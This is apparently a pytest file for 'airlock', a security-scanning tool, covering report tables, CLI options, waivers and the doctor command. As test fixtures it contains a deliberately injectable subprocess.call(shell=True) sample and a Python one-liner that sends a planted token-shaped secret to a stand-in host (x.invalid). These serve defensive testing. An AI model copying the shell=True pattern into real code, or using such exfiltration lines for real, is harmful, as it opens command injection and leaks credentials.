"""What a new user trips on first (issue 12): labels, alignment, order, what to do next, the CLI's small
options, `airlock waive` and `airlock doctor`. Real tools (bandit, bwrap, strace) where a scan runs."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path

import pytest

from airlock.pipeline.errors import UsageError
from airlock.pipeline.models import Finding, Severity, StageResult, ToolRun, ToolStatus
from airlock.pipeline.policy import load_config_file
from airlock.pipeline.redact import redact
from airlock.pipeline.runner import Job, run_jobs
from airlock.reports import view
from airlock.reports.markdown import MarkdownWriter
from airlock.reports.text import TextWriter
from airlock.scanners.interface import ScanContext
from airlock.scanners.runtime.canaries import CanarySet
from airlock.scanners.runtime.rules import output_tail
from tests.conftest import airlock_env, run_airlock, scan_json, write_files
from tests.report_fixture import sample_report

VULNERABLE = "import subprocess\n\n\ndef f(cmd):\n    subprocess.call(cmd, shell=True)\n"
# bandit alone: the CLI behaviour under test does not need semgrep's start-up on a shared 2-core machine.
# Without a taint rule to confirm a request source, B602 is medium (docs/severity.md): gate at medium.
BANDIT_ONLY = '[gate]\nfail_on = "medium"\n[tools.semgrep]\nenabled = false\n[tools.trivy-secret]\nenabled = false\n'


def _bandit_repo(tmp_path: Path, source: str = VULNERABLE) -> tuple[Path, Path]:
    repo = tmp_path / "repo"
    write_files(repo, {"app.py": source})
    cfg = tmp_path / "airlock.toml"
    cfg.write_text(BANDIT_ONLY)
    return repo, cfg


# --- reports -----------------------------------------------------------------------------------------------


class _NothingApplies:
    name = "checkov"
    stage = "iac"

    def targets(self, ctx: ScanContext) -> tuple[str, ...]:
        return ()

    def run(self, ctx: ScanContext, targets: tuple[str, ...]):  # pragma: no cover - never called
        raise AssertionError("a skipped scanner must not run")


def test_a_skipped_tool_is_labelled_skipped_not_error(tmp_path: Path) -> None:
    (result,) = run_jobs([Job(_NothingApplies(), ScanContext(tmp_path, (), load_config_file_default()))])
    assert result.status is ToolStatus.SKIPPED and result.error == ""
    report = sample_report()
    iac = StageResult("iac", "skipped", 0.0, (ToolRun("checkov", ToolStatus.SKIPPED, "", 0.0, "", (), 0),))
    text = TextWriter().render(replace(report, stages=(*report.stages[:1], iac)))
    table = text.split("\n\n")[1]
    row = next(line for line in table.splitlines() if line.startswith("iac"))
    assert "skipped" in row and "error" not in table, table


def load_config_file_default():  # the ToolConfig a scanner gets when the policy says nothing
    from airlock.pipeline.policy import ToolConfig

    return ToolConfig()


def test_text_table_columns_line_up_with_long_tool_names_and_versions() -> None:
    report = sample_report()
    sast = report.stages[0]
    long_tool = ToolRun("trivy-secret", ToolStatus.OK, "0.76.0", 12.25, "", (), 1)
    runtime = ToolRun("bwrap", ToolStatus.OK, "bubblewrap 0.11.0", 4.5, "", (), 1)
    stages = (StageResult("sast", sast.status, 1.0, (*sast.tools, long_tool)),
              StageResult("runtime", "failed", 4.5, (runtime,)))
    text = TextWriter().render(replace(report, stages=stages))
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("stage "))
    table = lines[start:start + 5]
    header = table[0]
    for col in ("tool", "status", "version", "findings"):
        at = header.index(col)
        for row in table[1:]:
            assert row[at - 1] == " " and row[at] != " ", (col, table)  # every cell starts under its header
    end = header.index("time") + len("time")
    for row in table[1:]:
        assert row[end - 1] == "s" and row[end] == " ", table  # times right-aligned under "time"
    assert "bubblewrap 0.11.0" in text


def test_runtime_findings_come_most_severe_first() -> None:
    fs = [Finding("runtime", "bwrap", rid, "m", sev, "", fingerprint=rid) for rid, sev in
          (("runtime.a", Severity.MEDIUM), ("runtime.b", Severity.HIGH), ("runtime.c", Severity.CRITICAL))]
    text = TextWriter().render(replace(sample_report(), findings=tuple(fs)))
    order = [rid for rid in re.findall(r"runtime\.[abc]", text)]
    assert order == ["runtime.c", "runtime.b", "runtime.a"], text


@pytest.mark.parametrize("verdict", ["passed", "failed", "error"])
def test_every_verdict_says_what_to_do_next(verdict: str) -> None:
    report = sample_report()
    gate = replace(report.gate, verdict=verdict, warnings=())
    report = replace(report, gate=gate)
    steps = view.next_steps(report)
    assert steps
    text = TextWriter().render(report)
    md = MarkdownWriter().render(report)
    assert "next:" in text and "**Next**" in md
    if verdict == "failed":
        fp = next(f.fingerprint for f in view.top_new(report, 99) if view.is_gating(report, f))
        cmd = f"airlock waive /repo --fingerprint {fp} --reason '...' --owner you@example.com"
        assert cmd in text and f"`{cmd}`" in md
        assert "airlock baseline create /repo" in text
    elif verdict == "error":
        assert "airlock doctor" in text
    else:
        assert "passed: nothing to do" in text


def test_the_output_tail_keeps_the_last_line_and_fits_a_note() -> None:
    out = "".join(f"line {i}\n" for i in range(500)).encode()
    tail = output_tail(out, b"Traceback...\nValueError: the real reason\n", CanarySet((), ()))
    assert tail.endswith("ValueError: the real reason"), tail
    note = f"runtime: command 1 output tail: {tail}"
    assert len(note) <= 300  # what the text and Markdown writers show of a note
    shown = TextWriter().render(replace(sample_report(), notes=(note,)))
    assert "ValueError: the real reason" in shown


def test_masking_keeps_the_command_in_runtime_evidence_readable() -> None:
    cmd = 'command[1]: python3 -c "import urllib.request; urllib.request.urlopen(\'http://x.invalid/\')"'
    f = Finding("runtime", "bwrap", "runtime.secret.exfiltration", "the planted secret was sent out",
                Severity.CRITICAL, "", evidence=(cmd, "http: GET x.invalid:80 /?k=ghp_" + "a" * 36))
    out = redact(f)
    assert out.evidence[0] == cmd
    assert "ghp_" + "a" * 36 not in out.evidence[1]  # a real credential shape is still masked
    static = redact(replace(f, stage="sast", rule_id="airlock.secrets.x", evidence=(cmd,)))
    assert static.evidence[0] != cmd  # elsewhere a secret finding's literals stay masked


# --- [tools.strace] ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("key", ['timeout_s = 5', 'enabled = false', 'rules = ["x"]'])
def test_tools_strace_rejects_what_it_cannot_honour(tmp_path: Path, key: str) -> None:
    cfg = tmp_path / "airlock.toml"
    cfg.write_text(f"[tools.strace]\n{key}\n")
    with pytest.raises(UsageError, match=r"\[tools.strace\] takes only path"):
        load_config_file(cfg)


def test_tools_strace_path_is_the_tracer_the_runtime_stage_runs(tmp_path: Path) -> None:
    marker = tmp_path / "strace-was-used"
    shim = tmp_path / "bin" / "my-strace"
    shim.parent.mkdir()
    shim.write_text(f'#!/bin/sh\necho yes >> {marker}\nexec /usr/bin/strace "$@"\n')
    shim.chmod(0o755)
    cfg = tmp_path / "airlock.toml"
    cfg.write_text(f'[tools.strace]\npath = "{shim}"\n')
    repo = tmp_path / "repo"
    write_files(repo, {"ok.py": "print('hi')\n"})
    code, report, done = scan_json(repo, "--stages", "runtime", "--config", cfg, "--run", "python3 ok.py",
                                   tmp_path=tmp_path)
    assert code == 0, done.stdout + done.stderr
    assert marker.read_text().startswith("yes")

    cfg.write_text(f'[tools.strace]\npath = "{tmp_path / "nope"}"\n')
    code, report, done = scan_json(repo, "--stages", "runtime", "--config", cfg, "--run", "python3 ok.py",
                                   tmp_path=tmp_path)
    assert code == 2
    runtime = next(s for s in report["stages"] if s["name"] == "runtime")
    assert "is not an executable" in runtime["error"] and "[tools.strace] path" in runtime["error"]


# --- the CLI -------------------------------------------------------------------------------------------------


def test_baseline_without_a_subcommand_is_a_one_line_usage_error() -> None:
    done = run_airlock("baseline")
    assert done.returncode == 2
    assert done.stdout == ""
    assert done.stderr.strip().count("\n") == 0, done.stderr
    assert "airlock baseline create [PATH]" in done.stderr
    done = run_airlock()
    assert done.returncode == 2 and done.stderr.strip().count("\n") == 0, done.stderr


def test_help_has_examples() -> None:
    for args in ((), ("scan",)):
        done = run_airlock(*args, "--help")
        assert done.returncode == 0
        assert "examples:" in done.stdout and "airlock scan --base origin/main" in done.stdout
        assert "airlock doctor" in done.stdout and "--exit-zero" in done.stdout


def test_quiet_prints_only_the_verdict_and_still_writes_the_files(tmp_path: Path) -> None:
    repo, cfg = _bandit_repo(tmp_path)
    out = tmp_path / "r.json"
    done = run_airlock("scan", repo, "--stages", "sast", "--config", cfg, "--quiet", "--json-output", out)
    assert done.returncode == 1, done.stderr
    assert done.stdout == ""
    assert done.stderr.strip() == "airlock: gate failed: 1 gating finding(s)", done.stderr
    assert json.loads(out.read_text())["gate"]["verdict"] == "failed"


def test_exit_zero_reports_a_failure_but_never_turns_an_error_into_a_pass(tmp_path: Path) -> None:
    repo, cfg = _bandit_repo(tmp_path)
    code, report, done = scan_json(repo, "--stages", "sast", "--config", cfg, "--exit-zero", tmp_path=tmp_path)
    assert code == 0, done.stderr
    assert report["gate"]["verdict"] == "failed" and "gate: FAILED" in done.stdout
    assert any("--exit-zero" in n for n in report["notes"])

    cfg.write_text(BANDIT_ONLY + f'[tools.bandit]\npath = "{tmp_path / "no-bandit"}"\n')
    code, report, done = scan_json(repo, "--stages", "sast", "--config", cfg, "--exit-zero", tmp_path=tmp_path)
    assert code == 2, done.stdout
    assert report["gate"]["verdict"] == "error"


def test_the_waive_command_from_the_report_makes_the_gate_pass(tmp_path: Path) -> None:
    repo, cfg = _bandit_repo(tmp_path)
    code, report, done = scan_json(repo, "--stages", "sast", "--config", cfg, tmp_path=tmp_path)
    assert code == 1
    line = next(x for x in done.stdout.splitlines() if "airlock waive" in x)
    fp = re.search(r"--fingerprint ([0-9a-f]+)", line).group(1)  # type: ignore[union-attr]
    done = run_airlock("waive", repo, "--fingerprint", fp, "--reason", 'input is a "constant"\nlist',
                       "--owner", "alice@example.com")
    assert done.returncode == 0, done.stderr
    text = (repo / ".airlock-waivers.toml").read_text()
    assert f'fingerprint = "{fp}"' in text and "expires = " in text
    code, report, done = scan_json(repo, "--stages", "sast", "--config", cfg, tmp_path=tmp_path)
    assert code == 0, done.stdout
    waived = [f for f in report["findings"] if f["fingerprint"] == fp]
    assert [f["suppression"]["kind"] for f in waived] == ["waiver"], report["findings"]

    done = run_airlock("waive", repo, "--reason", "r", "--owner", "o")
    assert done.returncode == 2 and "--fingerprint" in done.stderr
    done = run_airlock("waive", repo, "--rule", "B602", "--reason", "r", "--owner", "o", "--expires", "2001-01-01")
    assert done.returncode == 2 and "already past" in done.stderr


# --- airlock doctor ------------------------------------------------------------------------------------------


def test_doctor_lists_every_tool_and_builds_the_sandbox() -> None:
    done = run_airlock("doctor")
    assert done.returncode == 0, done.stdout + done.stderr
    for tool in ("semgrep", "bandit", "trivy", "checkov", "bwrap", "strace", "git", "pre-commit", "sandbox"):
        assert re.search(rf"^(ok|warn|FAIL)\s+{re.escape(tool)}\s", done.stdout, re.MULTILINE), done.stdout
    assert re.search(r"^ok\s+strace\s+\d+\.\d+\s+/\S*strace$", done.stdout, re.MULTILINE), done.stdout
    assert re.search(r"^ok\s+sandbox\s", done.stdout, re.MULTILINE), done.stdout
    assert "every required tool is ready" in done.stdout


def test_doctor_fails_and_names_the_fix_when_a_required_tool_is_missing(tmp_path: Path) -> None:
    env = airlock_env({"AIRLOCK_STRACE_PATH": str(tmp_path / "no-strace")})
    done = run_airlock("doctor", "--no-sandbox", env=env)
    assert done.returncode == 1, done.stdout
    assert re.search(r"^FAIL\s+strace\s+not found \(needed for runtime\)", done.stdout, re.MULTILINE), done.stdout
    assert "fix: apt-get install strace" in done.stdout
    assert "not ready: strace" in done.stdout
